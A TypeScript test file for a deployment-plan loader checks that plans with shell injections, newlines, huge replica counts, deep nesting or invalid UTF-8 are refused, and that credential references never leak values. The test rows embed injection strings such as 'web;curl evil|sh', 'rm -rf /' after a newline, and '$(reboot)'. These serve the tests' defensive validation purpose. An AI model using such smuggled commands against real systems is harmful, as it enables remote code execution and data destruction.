/**
 * A plan file is untrusted input: the plan schema holds ids, names, paths and labels to the props'
 * rules, bounds replicas, and the loader refuses deep nesting and invalid UTF-8. References are listed
 * by shape and checked against an environment; file paths are recorded relative to the plan's directory.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { generationOf } from "../../lib/plan/canonical";
import { invalidUtf8Offset, jsonDepth, loadPlanFile, parsePlan } from "../../lib/plan/load";
import { planReferences, recordedPath, resolveFilePaths, unresolvedReferences } from "../../lib/plan/references";
import { MAX_PLAN_DEPTH, MAX_POOL_REPLICAS, type Plan } from "../../lib/schema/plan";
import { ValidationError } from "../../lib/schema/validation";
import { makePlan } from "../handler/fixtures";

type Mutable = { id: string; kind: string; dependsOn: string[]; spec: Record<string, unknown>; generation: string };

/** The fixture plan with `edit` applied to one resource, its generation recomputed (a careful hand edit). */
function edited(kind: string, edit: (r: Mutable) => void): unknown {
  const plan = JSON.parse(JSON.stringify(makePlan())) as { resources: Mutable[] };
  const r = plan.resources.find((x) => x.kind === kind)!;
  edit(r);
  r.generation = generationOf(r.spec as never);
  return plan;
}

function messages(data: unknown): string {
  try {
    parsePlan(data);
  } catch (e) {
    assert.ok(e instanceof ValidationError, String(e));
    return e.message;
  }
  assert.fail("expected the plan to be refused");
}

test("plan schema: shell, newlines and oversized numbers are refused with the resource and field named", () => {
  const rows: Array<[string, unknown, RegExp]> = [
    ["shell in clusterName", edited("NodePool", (r) => void (r.spec.clusterName = "web;curl evil|sh")), /t1\/web\/cp: spec\.clusterName: expected a lowercase RFC 1123 label/],
    ["newline in a resource id", edited("NodePool", (r) => void (r.id = "t1/web/cp\nrm -rf /")), /id: expected a resource id .*on one line/],
    ["shell in a resource id", edited("NodePool", (r) => void (r.spec.cluster = "t1/web$(reboot)")), /spec\.cluster: expected a resource id: construct ids joined by '\/', without whitespace or shell metacharacters/],
    ["replicas 1e9", edited("NodePool", (r) => void (r.spec.replicas = 1e9)), new RegExp(`replicas: expected at most ${MAX_POOL_REPLICAS} replicas in one pool`)],
    ["newline in an image name", edited("NodePool", (r) => void ((r.spec.machine as { image: unknown }).image = { name: "img\n- runcmd" })), /spec\.machine\.image\.name: expected a Prism entity name on one line/],
    ["a bad label", edited("NodePool", (r) => void (r.spec.labels = { "a b": "x" })), /labels/],
    ["newline in the interface", edited("KubeVipEndpoint", (r) => void (r.spec.interface = "eth0\nx")), /spec\.interface: expected a network interface name such as eth0/],
    ["shell in the stack", { ...(makePlan() as object), metadata: { stack: "t1 && reboot" } }, /metadata\.stack: expected a construct id without whitespace/],
  ];
  for (const [name, data, re] of rows) assert.match(messages(data), re, name);
  assert.doesNotThrow(() => parsePlan(makePlan()), "the fixture plan itself is fine");
});

test("jsonDepth and invalidUtf8Offset: one pass, strings do not count", () => {
  assert.equal(jsonDepth('{"a":[1,{"b":"[[[["}]}'), 3);
  assert.equal(jsonDepth('"\\"[" '), 0);
  assert.equal(jsonDepth("[".repeat(100000), MAX_PLAN_DEPTH), MAX_PLAN_DEPTH + 1);
  assert.equal(invalidUtf8Offset(Buffer.from("héllo", "utf8")), -1);
  assert.equal(invalidUtf8Offset(Buffer.from([0x7b, 0x22, 0xff, 0x22])), 2);
});

test("loadPlanFile: nesting deeper than 64 and invalid UTF-8 are refused with the file named", () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "npc-untrusted-"));
  const deep = path.join(dir, "deep.json");
  fs.writeFileSync(deep, `{"apiVersion":"x","kind":"Plan","metadata":{"stack":"t1"},"resources":[],"x":${"[".repeat(65)}${"]".repeat(65)}}`);
  assert.throws(() => loadPlanFile(deep), (e: unknown) => e instanceof ValidationError && /deep\.json.*expected JSON nested at most 64 levels deep/.test(e.message));
  const bad = path.join(dir, "bad.json");
  const text = JSON.stringify(makePlan());
  const at = text.indexOf("web-") > 0 ? text.indexOf('"web"') + 1 : 10;
  fs.writeFileSync(bad, Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from([0xc3, 0x28]), Buffer.from(text.slice(at))]));
  assert.throws(() => loadPlanFile(bad), (e: unknown) => e instanceof ValidationError && new RegExp(`expected UTF-8 text, found an invalid byte sequence at byte ${at}`).test(e.message));
  fs.rmSync(dir, { recursive: true, force: true });
});

test("references: found by shape, unset variables and unreadable files named (never a value)", () => {
  const plan = makePlan();
  const refs = planReferences(plan.resources);
  assert.deepEqual(refs, [
    { resource: "t1/pc", field: "credentials.passwordEnv", kind: "env", name: "NUTANIX_PASSWORD" },
    { resource: "t1/pc", field: "credentials.usernameEnv", kind: "env", name: "NUTANIX_USERNAME" },
  ]);
  const issues = unresolvedReferences([...refs, { resource: "r", field: "apiKey", kind: "file", name: "keys/k" }], { NUTANIX_USERNAME: "secret-user" }, () => false, "/plans");
  assert.deepEqual(issues.map((i) => `${i.path}: ${i.field}: ${i.message}`), [
    "t1/pc: credentials.passwordEnv: expected the environment variable NUTANIX_PASSWORD to be set (the plan reads it at apply time), it is not",
    `r: apiKey: expected a readable file keys/k (resolved from the plan file's directory to ${path.resolve("/plans", "keys/k")}), it is not`,
  ]);
  assert.ok(!JSON.stringify(issues).includes("secret-user"));
});

test("file paths: recorded relative to the plan's directory, resolved from it; absolute paths stay", () => {
  assert.equal(recordedPath("secrets/pc.json", "/home/u/app", "/home/u/app/cdktf.out/stacks/dc1"), "../../../secrets/pc.json");
  assert.equal(recordedPath("/etc/pc.json", "/home/u/app", "/x"), "/etc/pc.json");
  const plan = JSON.parse(JSON.stringify(makePlan())) as Plan;
  const pc = plan.resources.find((r) => r.kind === "PrismCentralAccount")!;
  (pc.spec as { credentials: unknown }).credentials = { source: "file", path: "../../../secrets/pc.json" };
  const resolved = resolveFilePaths(plan, "/home/u/app/cdktf.out/stacks/dc1");
  assert.deepEqual((resolved.resources.find((r) => r.kind === "PrismCentralAccount")!.spec as { credentials: unknown }).credentials, { source: "file", path: path.resolve("/home/u/app/secrets/pc.json") });
  assert.equal(resolved.resources.find((r) => r.kind === "PrismCentralAccount")!.generation, pc.generation, "the generation is the recorded one");
});
